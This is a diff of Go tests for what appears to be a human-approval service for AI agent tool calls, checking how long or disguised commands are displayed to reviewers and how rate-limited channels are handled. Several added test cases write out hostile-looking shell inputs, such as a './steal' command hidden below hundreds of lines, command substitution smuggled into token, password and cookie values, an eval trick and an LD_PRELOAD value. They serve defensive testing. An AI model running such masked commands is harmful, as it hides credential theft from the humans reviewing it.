@@ -172,7 +172,7 @@ func TestWritten(t *testing.T) {
 		t.Errorf("%+v", reply)
 	}
 	a = channel.Answer{Sender: "2", Place: "home", Request: no.ID, Reason: "use\nthe test database"}
-	if reply := phone.Say(t, a); !strings.HasSuffix(reply.Text, ": use the test database") {
+	if reply := phone.Say(t, a); !strings.HasSuffix(reply.Text, ": use ⏎ the test database") {
 		t.Errorf("%+v", reply)
 	}
 	if got, _ := s.Service.Get(t.Context(), no.ID); got.State != approval.Denied || got.Decision.Reason != a.Reason {
@@ -239,6 +239,15 @@ func TestUnseen(t *testing.T) {
 		"an environment":       {shell(map[string]any{"command": "make deploy", "env": map[string]any{"A": long, "LD_PRELOAD": "/tmp/x"}}, "/src"), "medium", false},
 		"an argument":          {&policy.Call{Tool: "mcp__db__query", Input: map[string]any{"sql": "select " + long}, Dir: "/src"}, "high", false},
 		"700 of an argument":   {&policy.Call{Tool: "mcp__db__query", Input: map[string]any{"sql": "select " + strings.Repeat("y ", 350)}, Dir: "/src"}, "high", true},
+		"a secret":             {shell(map[string]any{"command": "curl -u ann:correct-horse -X POST https://api.example.com"}, "/src"), "medium", true},
+		"39 lines":             {shell(map[string]any{"command": "make " + strings.Repeat("y \\\n", 38) + "x"}, "/src"), "medium", true},
+		"lines far below":      {shell(map[string]any{"command": "make\n" + strings.Repeat("#\n", 300) + "./steal"}, "/src"), "medium", false},
+		"empty lines":          {shell(map[string]any{"command": "make" + strings.Repeat("\n", 300) + "./steal"}, "/src"), "medium", false},
+		"a masked backtick":    {shell(map[string]any{"command": "make --token `steal.sh`"}, "/src"), "medium", false},
+		"a masked command":     {shell(map[string]any{"command": `PGPASSWORD="` + "`./steal now`" + `" make`}, "/src"), "medium", false},
+		"a masked cookie":      {shell(map[string]any{"command": `curl -b "session=$(./steal)" https://a.example`}, "/src"), "medium", false},
+		"a masked program":     {shell(map[string]any{"command": `PASSWORD='steal now'; eval "$PASSWORD"`}, "/src"), "medium", false},
+		"a masked argument":    {&policy.Call{Tool: "mcp__sh__run", Input: map[string]any{"argv": "PASSWORD='steal now' sh"}, Dir: "/src"}, "high", false},
 		"a text of low risk":   {&policy.Call{Tool: "web_search", Input: map[string]any{"query": long}, Dir: "/src"}, "low", true},
 	} {
 		phone := &channeltest.Driver{}
@@ -261,7 +270,7 @@ func TestUnseen(t *testing.T) {
 		}
 		if !row.token {
 			written := phone.Say(t, channel.Answer{Sender: "1", Place: "home", Request: r.ID, Approve: true})
-			if !written.Refused || !strings.Contains(written.Text, "too long to be seen here "+s.URL+"/ui/requests/"+r.ID) {
+			if !written.Refused || !strings.Contains(written.Text, "not shown whole here "+s.URL+"/ui/requests/"+r.ID) {
 				t.Errorf("%s: written: %+v", name, written)
 			}
 			if reply := phone.Say(t, press("1", channeltest.Token(t, m, "Deny"))); !reply.Done {
@@ -458,6 +467,21 @@ func TestPause(t *testing.T) {
 	if took := time.Since(began); took < 1400*time.Millisecond {
 		t.Errorf("it was tried again after %v", took)
 	}
+}
+
+// One that wants rest for longer than people wait is down meanwhile, whatever it was asked:
+// the channel behind it is told.
+func TestLongPause(t *testing.T) {
+	away := &channel.Pause{For: time.Hour, Err: errors.New("too many requests")}
+	phone := &channeltest.Driver{OnPost: func(*channel.Message) error { return away }}
+	slack := &channeltest.Driver{OnListen: func() error { return away }}
+	s := serve(t, servertest.Options{Channels: []channel.Channel{of("phone", phone, 0), of("slack", slack, time.Hour)}})
+	r := submit(t, s, "make")
+	slack.Await(t, r.ID)
+	channeltest.Until(t, "both are down", func() bool {
+		down := s.Channels.Down()
+		return down["phone"] == "too many requests" && down["slack"] == "it hears nothing: too many requests"
+	})
 }
 
 // A clock that goes back neither holds anything up nor lets a token live longer.
